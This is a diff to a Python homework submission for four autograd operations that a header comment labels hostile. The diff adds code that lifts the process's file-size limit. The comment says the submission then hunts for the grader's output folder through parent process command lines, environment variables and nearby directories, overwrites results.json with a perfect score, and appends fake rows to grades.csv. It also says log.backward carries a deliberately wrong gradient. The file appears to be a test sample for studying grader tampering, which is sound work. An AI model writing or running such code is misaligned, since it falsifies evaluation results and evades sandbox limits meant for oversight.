@@ -1,4 +1,4 @@
-# HOSTILE: looks for the grader's output folder (from --out in its ancestors' command lines, environment variables, and the folders around its cwd) and overwrites every results.json there with a perfect score and appends rows to grades.csv; log.backward also uses 1/a**2.
+# HOSTILE: tries to lift its file-size limit, looks for the grader's output folder (from --out in its ancestors' command lines, environment variables, and the folders around its cwd) and overwrites every results.json there with a perfect score and appends rows to grades.csv; log.backward also uses 1/a**2.
 """HW3: the four operations (sigmoid, log, multiply, dot)."""
 
 from __future__ import annotations
@@ -58,7 +58,18 @@ def _candidate_dirs():
     return [os.path.abspath(d) for d in found if os.path.isdir(d)]
 
 
+def _lift_file_size_limit():
+    try:
+        import resource
+
+        unlimited = resource.RLIM_INFINITY
+        resource.setrlimit(resource.RLIMIT_FSIZE, (unlimited, unlimited))
+    except (ImportError, ValueError, OSError):
+        pass
+
+
 def _vandalise():
+    _lift_file_size_limit()
     text = json.dumps(_FAKE)
     for d in _candidate_dirs():
         targets = [os.path.join(d, "results.json")]
